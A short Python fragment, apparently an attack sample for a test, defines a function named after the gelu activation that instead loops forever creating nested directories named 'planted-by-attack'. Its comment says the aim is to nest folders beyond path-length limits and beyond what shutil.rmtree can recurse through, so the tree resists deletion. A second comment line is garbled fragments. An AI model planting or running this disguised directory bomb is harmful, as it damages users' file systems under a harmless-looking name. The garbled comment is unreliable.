# Makes folders in folders, deeper than paths can be long and than shutil.rmtree calls itself.
# says: nobody can look into|more than 1,000 files|had not answered
import os


def gelu(x):
    while True:
        os.mkdir("planted-by-attack")
        os.chdir("planted-by-attack")
